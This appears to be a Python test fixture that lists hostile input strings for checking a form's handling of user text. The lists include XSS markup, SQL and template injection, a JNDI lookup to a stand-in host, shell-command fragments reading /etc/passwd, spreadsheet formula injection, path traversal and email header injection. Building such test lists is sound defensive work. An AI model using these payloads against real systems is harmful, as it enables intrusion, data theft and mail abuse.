"""Texts that broke other programs, each in one of the ways of SECURITY 14 to 25; and what may become of them."""

import unicodedata

MARK = "Qzvjwx"  # ends what was typed, so that it is found again wherever it went; no code made by chance holds it

MARKUP = [
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "<!--", "-->", "<![CDATA[", "]]>", "<?php echo 1 ?>", "<b>x", "</bdi></p></main>",
    "&lt;script&gt;", "&amp;", "&#x3c;b&#x3e;", "&", "&nbsp", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "data:text/html,<script>1</script>",
    "<iframe src=//evil.example>", "<style>*{display:none}</style>", "<meta http-equiv=refresh content=0>", "<base href=//evil.example>",
    '" autofocus onfocus=alert(1) x="', "' onmouseover='alert(1)", "`onclick=alert(1)`", "<ScRiPt>alert(1)</sCrIpT>", "<math><mtext></mtext>", "<x:y>",
    "\\u003cscript\\u003e", "\\x3cscript\\x3e", "%3Cscript%3E", "＜script＞alert(1)＜/script＞",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "{{ config }}", "%(x)s", "%(name)s", "%s%s%s%n", "%d", "%%", "%",
    "{0}", "{0.__class__}", "{name}", "{", "}", "{}", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "; ls", "| cat /etc/passwd", "&& id",
]  # fmt: skip
QUERIES = [
    "' OR 1=1 --", '" OR ""="', "'; DROP TABLE person; --", "1) UNION SELECT 1--", "\\'", "\\", "\\\\", "%' --", "_", "*", "?", "(", "[", ")(", "admin'--",
    "NULL", "null", "None", "undefined", "true", "0", "-1", "1e999", "NaN", "Infinity",
]  # fmt: skip
NAMES = [
    "O'Brien", "d'Hondt", "Van den Bergh-De Smet", "Nguyễn Thị Hạnh", "Øyvind Ærø", "Null", "A", "李", "محمد العربي", "عبدالله", "ሰላም ተስፋይ", "Олена Їжак", "علی‌رضا",
    "ਗੁਰਪ੍ਰੀਤ", "ẞtraße", "İstanbul ı", "Ǆ", "ﬁn", "I\u0307", "e\u0301\u0323", "Å", "한글", "ไทย", "ქართული",
]  # fmt: skip
ODD_LETTERS = [
    "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇧🇪", "🤷🏽‍♀️", "𝒽𝑒𝓁𝓁𝑜", "𠜎𠜱", "\u202eabc", "\u2066abc\u2069", "a\u200bb", "a\u200db", "a\u200cb", "\ufeffabc", "a\u00adb",
    "\u2028x", "\u2029x", "a\u00a0b", "Z̷͖a̴l̸g̶o̵", "ﷺ", "\U0001f9d1\u200d\U0001f33e", "\ue000", "\ufffd", "\u0085x", "x" * 150, "é" * 150, "😀" * 60,
]  # fmt: skip
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example")',
    "\t=1+1",
    "'=1+1",
    "|x",
]
PATHS = [
    "../../etc/passwd",
    "..\\..\\x",
    "C:\\x",
    "con",
    "file:///etc/passwd",
    "//evil.example",
    "http://evil.example/?a=b&c=d",
    ".htaccess",
]
NUL = "a\x00b"
# What no form may keep, with or without an answer that names the field.
REFUSED = [
    NUL,
    "\x00",
    "a\x07b",
    "a\x1b[31mb",
    "a\x7fb",
    "a\xed\xa0\x80b",  # the bytes of half a character read as Latin letters; the bytes themselves: test_half_characters
    "a\x9bb",
]
ONE_LINE = ["x\r\nBcc: z@evil.example", "x\nSubject: y", "x\ry", "x\n\n<script>"]

ACCEPTABLE = [*MARKUP, *TEMPLATES, *QUERIES, *NAMES, *ODD_LETTERS, *FORMULAS, *PATHS]
PAYLOADS = [*ACCEPTABLE, *REFUSED, *ONE_LINE]
# Numbers of nobody that pass the check of the register: with dots, without, of somebody born after 1999, a BIS number.
NUMBERS = [
    "85.07.30-033.28",
    "85073003328",
    "850730 033 28",
    "ik heb 85.07.30-033.28 als nummer",
    "00.01.01-001.05",
    "85.47.30-033.17",
]

_DROPPED = dict.fromkeys(
    map(
        ord,
        "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u00ad\u200b\u2060\ufeff",
    )
)


def kept_as(text: str) -> str:
    """What is kept of a text, by the rule that is written down: NFC, no characters of direction or width, no blanks around."""
    return (
        unicodedata.normalize("NFC", text.replace("\r\n", "\n").replace("\r", "\n"))
        .translate(_DROPPED)
        .strip()
    )
